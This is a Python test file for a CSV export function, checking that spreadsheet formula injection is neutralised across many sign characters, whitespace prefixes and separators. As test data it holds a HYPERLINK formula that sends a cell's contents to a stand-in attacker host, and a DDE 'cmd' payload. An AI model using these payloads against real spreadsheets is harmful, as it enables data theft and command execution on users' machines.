"""Tables for spreadsheets: no cell of them is a formula, in whatever form it is written and wherever it is opened."""

import csv
import io

import pytest

from web.pages.tables import csv_of


def cells(*given: str) -> list[str]:
    """What a spreadsheet that reads commas has in the cells of a row."""
    made = b"".join(csv_of(["Cliente"], [given])).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(made, newline="")))[1]


def begins(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula, after what it skips."""
    return cell.lstrip(' \t\r\n\x0b\x0c\xa0\u3000"\u200b\u200c\u200d\u200e\u200f\u2060\ufeff')[:1] in set(
        "=+-@＝＋－＠﹢﹣﹦﹫−"
    )


FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "−"])
@pytest.mark.parametrize(
    "before", ["", " ", "\t", "\r", "\n", "\x0b", "\x0c", "\xa0", "\u3000", "\u200b", "\u200e", "\ufeff", '"', "  \t"]
)
def test_what_would_be_a_formula_is_a_text(sign: str, before: str) -> None:
    (cell,) = cells(f"{before}{sign}cmd|' /C calc'!A0")
    assert not begins(cell) and f"{sign}cmd" in cell


@pytest.mark.parametrize("end", [";", ",", "|", "\t", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028"])
@pytest.mark.parametrize("after", ["", " ", '"', "\xa0"])
def test_nor_is_what_another_spreadsheet_makes_a_cell_of_its_own(end: str, after: str) -> None:
    (cell,) = cells(f"Banco{end}{after}{FORMULA}")
    for piece in cell.replace("\r\n", end).split(end):
        assert not begins(piece), cell
    raw = b"".join(csv_of(["Cliente"], [[f"Banco{end}{after}{FORMULA}"]])).decode("utf-8-sig")
    for piece in raw.partition("\r\n")[2].replace("\r\n", "\n").split(end):
        assert not begins(piece), raw


@pytest.mark.parametrize(
    "text",
    [
        "Banco del Bajío",
        "-1,250,000.50",
        "-5",
        "31.43 %",
        "a-b",
        "ventas@example.com",
        "1 + 1",
        "GC-2026-0001",
        "—",
        "",
    ],
)
def test_any_other_text_and_numbers_stay_as_they_are(text: str) -> None:
    assert cells(text, "x") == [text, "x"]


def test_what_is_neither_seen_nor_a_text_is_left_out() -> None:
    assert cells("\x00=1+1", "Ban\x07co") == ["'=1+1", "Banco"]


def test_the_heading_is_inert_too() -> None:
    made = b"".join(csv_of(["=1+1"], [])).decode("utf-8-sig")
    assert made == "'=1+1\r\n"
